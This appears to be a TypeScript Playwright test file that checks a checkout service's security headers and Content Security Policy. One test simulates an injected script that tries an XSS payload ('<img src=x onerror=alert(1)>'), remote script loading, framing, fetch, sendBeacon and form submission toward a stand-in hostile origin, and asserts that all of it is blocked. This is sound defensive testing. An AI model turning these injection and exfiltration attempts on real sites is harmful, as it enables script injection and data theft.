import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { openCheckout, orderOf } from '../fixtures/buyer.ts'
import { expect, test } from '../fixtures/hostile-world.ts'
import { root } from '../fixtures/program.ts'

test('row 51: the headers that merchants copy from the security guide are exactly those of the shop', async ({
  page,
  world,
}) => {
  const answer = await page.goto('/')
  const got = (await answer?.allHeaders()) ?? {}
  const guide = readFileSync(join(root, '.github/SECURITY.md'), 'utf8')
  const [, block = ''] = /<!-- headers -->\n\n```\n([\s\S]*?)```/.exec(guide) ?? []
  const lines = block.trim().split('\n')
  for (const line of lines) {
    const [, name = '', value = ''] = /^([\w-]+): (.*)$/.exec(line) ?? []
    const live = got[name.toLowerCase()]
      ?.replaceAll(world.checkoutOrigin, 'CHECKOUT')
      .replaceAll(world.shopUrl, 'SHOP')
    // Helmet joins directives without a space.
    expect(live?.replaceAll(/;\s*/g, '; '), name).toBe(value)
  }
  expect(lines).toHaveLength(7)
})

test('row 51: a script that got into the shop’s page can load, run, frame, send and embed nothing from elsewhere', async ({
  page,
  world,
  noise,
}) => {
  noise.allow(/./)
  await openCheckout(page)
  world.evil.serve('/*', () => ({ headers: { 'content-type': 'text/javascript' }, body: 'x' }))
  const outcome = await page.evaluate(async (evil) => {
    const broken = new Set<string>()
    addEventListener('securitypolicyviolation', (event) => broken.add(event.effectiveDirective))
    const attempts: (() => unknown)[] = [
      () => new Function('return 1')(),
      () =>
        document.body.append(
          Object.assign(document.createElement('script'), { src: `${evil}/s.js` }),
        ),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
      () =>
        document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/f` })),
      () => Object.assign(new Image(), { src: `${evil}/i` }),
      () => fetch(`${evil}/c`).catch(() => {}),
      () => navigator.sendBeacon(`${evil}/b`, 'x'),
      () => new EventSource(`${evil}/e`).close(),
      () => {
        const form = document.createElement('form')
        form.action = `${evil}/form`
        document.body.append(form)
        form.submit()
      },
      () => document.head.append(Object.assign(document.createElement('base'), { href: evil })),
    ]
    for (const attempt of attempts) {
      try {
        await attempt()
      } catch {
        // Trusted Types throw: nothing happened.
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 500))
    return [...broken]
  }, world.evil.origin)
  expect(world.evil.inbox).toEqual([])
  for (const directive of [
    'require-trusted-types-for',
    'frame-src',
    'img-src',
    'connect-src',
    'form-action',
  ]) {
    expect(outcome).toContain(directive)
  }
})

test('every page of the service has its own exact protecting headers, on success and on refusal', async ({
  page,
  world,
}) => {
  const { id } = await openCheckout(page)
  expect(orderOf(page)).not.toBe('')
  const challenge = `http://127.0.0.1:${new URL(world.challengeOrigin).port}`
  const routes: readonly (readonly [name: string, url: string, init?: RequestInit])[] = [
    ['GET /checkout/:id', `${world.api.baseUrl}/checkout/${id}`],
    ['GET /checkout/unknown', `${world.api.baseUrl}/checkout/pi_${'0'.repeat(24)}`],
    [
      'GET /checkout/:id for a stranger',
      `${world.api.baseUrl}/checkout/${id}`,
      { headers: { referer: 'https://stranger.example/' } },
    ],
    ['POST /challenge', `${challenge}/challenge`, { method: 'POST' }],
    ['POST /challenge/answer', `${challenge}/challenge/answer`, { method: 'POST' }],
    [
      'POST /challenge/answer by script',
      `${challenge}/challenge/answer`,
      { method: 'POST', headers: { accept: 'application/json' } },
    ],
    ['POST /bank', `${challenge}/bank`, { method: 'POST' }],
    ['GET /payment-intents/:id without key', `${world.api.baseUrl}/payment-intents/${id}`],
    [
      'POST /checkout-api/session refused',
      `${world.api.baseUrl}/checkout-api/session`,
      { method: 'POST' },
    ],
    ['GET /_sandbox/export refused', `${world.api.baseUrl}/_sandbox/export`],
    ['GET /_sandbox/', `${world.api.baseUrl}/_sandbox/`],
    ['GET /nowhere', `${world.api.baseUrl}/nowhere`],
  ]
  const seen: Record<string, Record<string, string>> = {}
  for (const [name, url, init] of routes) {
    const answer = await fetch(url, init)
    await answer.arrayBuffer()
    seen[name] = protecting(answer, world)
  }
  const snapshot = join(root, 'e2e/security/headers.json')
  // UPDATE_HEADERS=1 writes them anew, for a person to read.
  if (process.env.UPDATE_HEADERS) writeFileSync(snapshot, `${JSON.stringify(seen, null, 2)}\n`)
  expect(seen).toEqual(JSON.parse(readFileSync(snapshot, 'utf8')))
})

const passing = [
  'connection',
  'content-length',
  'date',
  'keep-alive',
  'request-id',
  'transfer-encoding',
]

function protecting(
  answer: Response,
  world: { checkoutOrigin: string; challengeOrigin: string; shopUrl: string },
): Record<string, string> {
  const fixed = [...answer.headers].filter(([name]) => !passing.includes(name))
  const named = fixed.map(([name, value]) => [
    name,
    value
      .replaceAll(world.checkoutOrigin, 'CHECKOUT')
      .replaceAll(world.challengeOrigin, 'CHALLENGE')
      .replaceAll(world.shopUrl, 'SHOP'),
  ])
  return { status: String(answer.status), ...Object.fromEntries(named) }
}
